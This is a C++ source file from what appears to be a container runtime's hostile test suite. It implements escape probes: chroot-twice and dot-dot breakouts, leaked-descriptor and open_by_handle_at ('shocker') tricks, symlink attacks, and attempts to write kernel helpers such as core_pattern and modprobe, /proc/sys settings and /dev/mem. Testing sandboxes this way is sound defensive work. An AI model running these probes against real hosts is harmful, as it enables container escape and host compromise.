// By names: of directories above, of descriptors, of files that say more than they look like.
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cstring>

#include "tests/hostile/escape/escape.hh"

namespace escape {

namespace {

/// Goes up until there is nothing above, and looks there.
bool is_above(int folder) {
    std::string up;
    for (int i = 0; i < 64; ++i) up += "../";
    int top = openat(folder, up.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (top < 0) return false;
    bool out = finds_secret(top);
    close(top);
    return out;
}

Result dot_dot() {
    if (is_above(AT_FDCWD)) return got("the secret, above the working directory");
    int root = open("/", O_PATH | O_CLOEXEC);
    return is_above(root) ? got("the secret, above /") : refused(ENOENT);
}

Result chroot_twice() {
    std::string folder = scratch() + "/jail";
    if (mkdir(folder.c_str(), 0755) != 0 && errno != EEXIST) return refused();
    int outside = open("/", O_PATH | O_CLOEXEC);
    if (chroot(folder.c_str()) != 0) return refused();
    if (fchdir(outside) != 0) return refused();
    for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) return refused();
    return finds_secret(AT_FDCWD) ? got("the secret, above the root") : refused(ENOENT);
}

Result own_descriptors() {
    for (int fd = 3; fd < 1024; ++fd) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        if (has_token(fd)) return got("the secret, open as " + std::to_string(fd));
        if (S_ISDIR(st.st_mode) && is_above(fd)) return got("the secret, from descriptor " + std::to_string(fd));
    }
    return refused(EBADF);
}

/// shocker: a handle of the node's file system, opened through a file that is mounted from it.
Result by_handle() {
    struct {
        file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle{};
    int number = EPERM;
    for (const char* path : {"/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/ro", "/"}) {
        handle.head.handle_bytes = MAX_HANDLE_SZ;
        int mount = 0, file = open(path, O_RDONLY | O_CLOEXEC);
        if (file < 0 || name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) != 0) continue;
        if (open_by_handle_at(file, &handle.head, O_RDONLY) >= 0)
            return got(std::string("the file behind the handle of ") + path);
        number = errno;
    }
    return refused(number);
}

/// A folder of the node's that is there read-only (/ro, or ESCAPE_READ_ONLY).
std::string read_only_folder() {
    const char* path = getenv("ESCAPE_READ_ONLY");
    return path ? path : "/ro";
}

Result write_to_read_only() {
    std::string folder = read_only_folder(), file = folder + "/data", made = folder + "/made";
    if (access(file.c_str(), R_OK) != 0) return {Result::Kind::absent, "no folder " + folder};
    if (open(file.c_str(), O_WRONLY | O_CLOEXEC) >= 0) return got("a file to write to");
    if (open(made.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644) >= 0) return got("a new file");
    if (chmod(file.c_str(), 0666) == 0) return got("another mode");
    if (utimensat(AT_FDCWD, file.c_str(), nullptr, 0) == 0) return got("another time");
    if (setxattr(file.c_str(), "user.escape", "x", 1, 0) == 0) return got("an attribute");
    if (truncate(file.c_str(), 0) == 0) return got("an empty file");
    if (rename(file.c_str(), made.c_str()) == 0) return got("another name");
    // What is open for reading is opened once more.
    std::string again = "/proc/self/fd/" + std::to_string(open(file.c_str(), O_RDONLY | O_CLOEXEC));
    if (open(again.c_str(), O_WRONLY | O_CLOEXEC) >= 0) return got("a file to write to, by its descriptor");
    return refused();
}

Result hard_link() {
    std::string file = read_only_folder() + "/data";
    for (const std::string& folder : {scratch(), read_only_folder(), std::string("/dev/shm")})
        if (link(file.c_str(), (folder + "/escape-link").c_str()) == 0) {
            unlink((folder + "/escape-link").c_str());
            return got("another name, in " + folder);
        }
    return refused();
}

/// The image has symlinks to a folder of the node's where Berth makes directories and files (see escape_test.cc).
Result links_of_the_image() {
    for (const char* path : {"/etc/hosts", "/etc/passwd", "/etc/group", "/etc/resolv.conf", "/run/secret",
                             "/tmp/secret", "/dev/shm/secret", "/sys/secret", "/var/tmp/secret"})
        if (file_has_token(path)) return got(std::string("the secret, as ") + path);
    const char* link = getenv("ESCAPE_LINK");
    return file_has_token(link ? link : "/link") ? got("the secret, behind a symlink") : refused(ENOENT);
}

/// A file of a set that can be opened.
Result opens_any(const std::vector<std::string>& paths, int flags) {
    int number = ENOENT;
    for (const std::string& path : paths) {
        int fd = open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        char byte;
        // Where a file is covered by an empty one, there is nothing in it.
        if (fd >= 0 && ((flags & O_ACCMODE) != O_RDONLY || read(fd, &byte, 1) > 0 || errno == EAGAIN)) {
            close(fd);
            return got(path);
        }
        if (fd >= 0) close(fd);
        if (fd < 0 && errno != ENOENT) number = errno;
    }
    return refused(number);
}

Result programs_the_kernel_starts() {
    return opens_any({"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
                      "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register",
                      "/proc/sys/kernel/poweroff_cmd"},
                     O_WRONLY);
}

/// Writes what is there: some settings can be opened by all, and refuse when they are written to. What cannot be read
/// does something when it is written to, and is only opened.
bool can_be_written(const std::string& path) {
    if (access(path.c_str(), W_OK) != 0) return false;
    std::string text = text_of(path);
    int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    bool out = fd >= 0 && (text.empty() || write(fd, text.data(), text.size()) > 0);
    if (fd >= 0) close(fd);
    return out;
}

/// All files below `folder` that can be opened for writing, to a limit; links are not followed.
std::string writable_below(const std::string& folder, int depth, int& left) {
    for (const std::string& name : names_in(folder)) {
        std::string path = folder + "/" + name;
        // Limits of the namespace that a process is in (user_namespaces(7)).
        if (path == "/proc/sys/user" && getenv("ESCAPE_WITHIN") != nullptr) continue;
        struct stat st;
        if (--left < 0 || lstat(path.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode) && depth > 0)
            if (std::string found = writable_below(path, depth - 1, left); !found.empty()) return found;
        if (S_ISREG(st.st_mode) && (st.st_mode & 0222) != 0 && can_be_written(path)) return path;
    }
    return {};
}

Result settings_of_the_kernel() {
    for (const char* folder : {"/proc/sys", "/proc/irq", "/proc/fs", "/proc/bus", "/sys/kernel", "/sys/module",
                               "/sys/fs", "/sys/power", "/sys/devices/system", "/sys/block"}) {
        int left = 20'000;
        if (std::string path = writable_below(folder, 8, left); !path.empty()) return got(path);
    }
    return opens_any({"/proc/sysrq-trigger", "/proc/mtrr"}, O_WRONLY);
}

Result memory_of_the_kernel() {
    return opens_any({"/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/proc/vmcore", "/dev/kmsg", "/proc/kmsg"},
                     O_RDONLY);
}

Result traces_of_the_kernel() {
    return opens_any({"/sys/kernel/debug/sched/features", "/sys/kernel/tracing/trace",
                      "/sys/kernel/debug/tracing/trace", "/proc/slabinfo", "/proc/vmallocinfo", "/proc/pagetypeinfo"},
                     O_RDONLY);
}

}  // namespace

std::vector<Way> ways_by_paths() {
    return {
        {"dot-dot", "the directory above the working directory and above /", "CVE-2024-21626 (working directory)",
         Control::user, dot_dot},
        {"chroot-twice", "a chroot below the working directory, and up", "chroot(2), the oldest way", Control::root,
         chroot_twice},
        {"own-descriptors", "a descriptor that was left open, of the node's root or a file",
         "CVE-2024-21626, CVE-2016-9962", Control::user, own_descriptors},
        {"handle", "open_by_handle_at on a file that is mounted from the node", "shocker.c, 2014", Control::root,
         by_handle},
        {"read-only-mount", "all ways to change what is mounted read-only", "volumes of any runtime", Control::user,
         write_to_read_only},
        {"hard-link", "another name for a file of a read-only mount", "fs.protected_hardlinks", Control::user,
         hard_link},
        {"image-symlinks", "symlinks where directories and files of the node are mounted",
         "CVE-2021-30465, CVE-2018-15664, CVE-2019-19921, CVE-2024-0132", Control::user, links_of_the_image},
        {"kernel-helpers", "core_pattern, modprobe, hotplug, uevent_helper, binfmt_misc: what root executes",
         "CVE-2025-31133, CVE-2025-52881", Control::root, programs_the_kernel_starts},
        {"kernel-settings", "any file below /proc/sys and /sys that can be written to, and sysrq-trigger",
         "CVE-2025-31133, privileged containers", Control::root, settings_of_the_kernel},
        {"kernel-memory", "kcore, /dev/mem, kmsg", "masked paths of moby", Control::root, memory_of_the_kernel},
        {"kernel-traces", "debugfs, tracefs and the lists of the kernel's memory", "masked paths of moby",
         Control::root, traces_of_the_kernel},
    };
}

}  // namespace escape
